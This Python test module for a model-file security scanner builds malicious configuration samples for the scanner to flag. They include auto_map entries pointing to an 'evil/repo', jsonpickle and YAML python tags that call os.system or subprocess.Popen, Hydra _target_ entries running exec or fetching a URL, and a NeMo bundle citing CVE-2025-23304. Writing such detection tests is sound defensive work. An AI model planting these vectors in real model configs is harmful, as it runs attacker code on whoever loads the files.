"""Configurations that have a library run code: remote code, targets by name, tags of YAML."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any, Final

from credenza.findings import Severity
from tests.scan.population.interface import COMMAND, NOWHERE, SOURCE, Form, Malicious
from tests.scan.population.zips import tarred

_REMOTE: Final = "scan.md 1, auto_map and trust_remote_code"
_CODE: Final = f"import os\nos.system({COMMAND!r})\nclass Net: ...\n".encode()


def vectors() -> Iterator[Malicious]:
    for name, (path, value) in _jsons().items():
        yield _config(name, _REMOTE, (path, json.dumps(value).encode()), form=Form.JSON)
    for name, (path, value) in _lesser().items():
        data = json.dumps(value).encode()
        yield _config(name, _REMOTE, (path, data), form=Form.JSON, least=Severity.MEDIUM)
    local = {"auto_map": {"AutoModel": "modeling_net.Net"}}
    pair = ("modeling_net.py", _CODE), ("config.json", json.dumps(local).encode())
    yield _config("auto_map and its code", _REMOTE, *pair)
    for name, (path, text) in _texts().items():
        yield _config(name, "CVE-2025-23304 and scan.md 2.3", (path, text.encode()))
    yaml = f"target: x\nmodel:\n  _target_: os.system\n  command: {COMMAND}\n".encode()
    nemo = tarred([("model_config.yaml", yaml), ("model_weights.ckpt", b"")])
    yield _config("target in a NeMo file", "CVE-2025-23304", ("model.nemo", nemo))


def _jsons() -> dict[str, tuple[str, dict[str, Any]]]:
    elsewhere = {"auto_map": {"AutoModelForCausalLM": "evil/repo--modeling.Net"}}
    reduced = {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]}
    return {
        "auto_map to another repository": ("config.json", {"model_type": "x", **elsewhere}),
        "auto_map of a tokenizer": (
            "tokenizer_config.json",
            {"auto_map": {"AutoTokenizer": ["evil/repo--tok.Tok", None]}},
        ),
        "auto_map of a processor": (
            "preprocessor_config.json",
            {"auto_map": {"AutoProcessor": "evil/repo--proc.Proc"}},
        ),
        "jsonpickle": ("model.json", {"w": reduced}),
        "jsonpickle's object": ("model.json", {"py/object": "subprocess.Popen", "args": COMMAND}),
    }


def _lesser() -> dict[str, tuple[str, Any]]:
    return {
        "auto_map to code that is missing": (
            "config.json", {"auto_map": {"AutoModel": "modeling_net.Net"}}
        ),
        "trust_remote_code": ("config.json", {"trust_remote_code": True}),
        "a pipeline of its own": (
            "config.json",
            {"custom_pipelines": {"evil": {"impl": "pipe.Evil", "pt": ["AutoModel"]}}},
        ),
        "module of sentence-transformers": (
            "modules.json",
            [{"idx": 0, "name": "0", "path": "", "type": "evil_module.Run"}],
        ),
        "module of diffusers": (
            "model_index.json",
            {"_class_name": ["pipeline", "Evil"], "unet": ["evil_module", "Net"]},
        ),
        "library of operators": (
            "genai_config.json", {"model": {"decoder": {"custom_ops_library": "./evil.so"}}}
        ),
    }  # fmt: skip


def _texts() -> dict[str, tuple[str, str]]:
    return {
        "YAML, object/apply": (
            "config.yaml", f"a: !!python/object/apply:os.system ['{COMMAND}']\n"
        ),
        "YAML, object/new": (
            "config.yml", "a: !!python/object/new:subprocess.Popen [[touch, x]]\n"
        ),
        "YAML, name": ("config.yaml", "a: !!python/name:os.system\n"),
        "YAML, module": ("config.yaml", "a: !!python/module:os\n"),
        "YAML, tag written out": (
            "config.yaml", f"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['{COMMAND}']\n"
        ),
        "YAML, tag by a handle": (
            "config.yaml",
            "%TAG !p! tag:yaml.org,2002:python/\n---\n"
            f"a: !p!object/apply:os.system ['{COMMAND}']\n",
        ),
        "hydra, target": ("config.yaml", f"model:\n  _target_: os.system\n  command: {COMMAND}\n"),
        "hydra, target of builtins": (
            "hparams.yaml", f'model: {{_target_: builtins.exec, _args_: ["{SOURCE}"]}}\n'
        ),
        "hydra, target that is fetched": (
            "model_config.yaml",
            f"a:\n  - _target_: urllib.request.urlretrieve\n    url: {NOWHERE}\n",
        ),
    }  # fmt: skip


def _config(
    name: str, reference: str, *files: tuple[str, bytes], form: str = Form.OPAQUE,
    least: Severity = Severity.HIGH,
) -> Malicious:  # fmt: skip
    return Malicious(
        name=f"config {name}", category="config", reference=reference, least=least,
        files=files, form=form,
    )  # fmt: skip
